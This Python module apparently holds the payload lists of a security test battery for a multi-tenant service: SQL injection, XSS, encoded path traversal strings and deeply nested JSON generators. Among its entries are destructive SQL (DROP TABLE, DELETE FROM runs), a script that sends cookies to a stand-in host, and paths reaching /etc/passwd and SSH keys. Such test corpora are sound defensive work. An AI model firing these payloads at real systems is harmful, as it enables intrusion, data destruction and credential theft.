"""Payload corpora of the attack battery: SQL injection, XSS, path traversal, big JSON.

The strings are the classic probes of each family (OWASP testing guide, PayloadsAllTheThings,
MLflow's artifact-path advisories); the traversal corpus writes each escape in every
encoding a router, a proxy or a filesystem might decode.
"""

from __future__ import annotations

from typing import Any

SQL_INJECTION: list[str] = [
    "'",
    "''",
    "\"",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"1\"=\"1",
    "') OR ('1'='1",
    "' OR 1=1#",
    "admin'--",
    "1; DROP TABLE users --",
    "'; DROP TABLE runs; --",
    "1' UNION SELECT NULL--",
    "1' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT id, key_hash FROM api_keys --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5); --",
    "1) WAITFOR DELAY '0:0:5'--",
    "' || (SELECT sqlite_version()) || '",
    "%' AND 1=0 UNION SELECT name FROM sqlite_master --",
    "' AND extractvalue(1, concat(0x7e, version())) --",
    "\\'; --",
    "%27%20OR%201%3D1--",
    "1 OR 1=1",
    "-1 OR 2>1",
    "' OR ''='",
    "`id`",
    "$$; SELECT 1; $$",
    "E'\\x27'",
    "' COLLATE \"C\" --",
    "name = 'x' OR tenant_id IS NOT NULL",
    "metrics.accuracy > 0 OR 1=1",
    "params.x = '' OR '1'='1'",
    "attributes.status = 'x'; DELETE FROM runs",
    "\x00' OR 1=1 --",
    "ｓｅｌｅｃｔ ＊ ｆｒｏｍ users",
    "%",
    "_",
    "\\",
]

XSS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=http://evil.example>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<!--<script>-->alert(1)",
    "<x onmouseover=alert(1)>hover",
    "\u202e<script>alert(1)</script>",
    "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
]

# Escapes of a tenant's artifact root, raw and in every encoding a layer might decode.
_TRAVERSAL_CORE = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "\\etc\\passwd",
    "C:\\Windows\\win.ini",
    "C:/Windows/win.ini",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "//evil.example/share/x",
    "a/../../../../etc/passwd",
    "a/./../../b",
    "..",
    "../",
    "./..",
    "a/..",
    "notes/../../other-tenant/x",
    "....//....//etc/passwd",
    "..;/etc/passwd",
    "x;/../../etc/passwd",
    "x#/../../etc/passwd",
    "x\x00.txt",
    "x\x00/../../../etc/passwd",
    "~/.ssh/id_rsa",
    "../tenants/victim/runs/x",
]

_ENCODED = [
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2E%2E/%2E%2E/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5cetc",
    "%252e%252e/%252e%252e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc",
    "..%255c..%255cwindows",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%e0%80%ae%e0%80%ae/etc/passwd",
    "..%c1%9c..%c1%9cetc",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "\uff0e\uff0e/\uff0e\uff0e/etc/passwd",
    "..\u2215..\u2215etc\u2215passwd",
    "%2fetc%2fpasswd",
    "%5cetc%5cpasswd",
    "file%3A%2F%2F%2Fetc%2Fpasswd",
    "x%00.txt",
    "x%2500.txt",
    "..%00/etc/passwd",
    "x%3B/../../etc",
    "x%23/../../etc",
]

TRAVERSAL: list[str] = _TRAVERSAL_CORE + _ENCODED


def deep_json(depth: int) -> str:
    """A JSON document nested ``depth`` levels deep (as text: building it as Python objects
    would recurse in the encoder before the server ever sees it)."""
    return '{"a":' * depth + "1" + "}" * depth


def deep_array(depth: int) -> str:
    return "[" * depth + "]" * depth


def wide_object(keys: int) -> dict[str, Any]:
    return {f"k{i}": "v" for i in range(keys)}
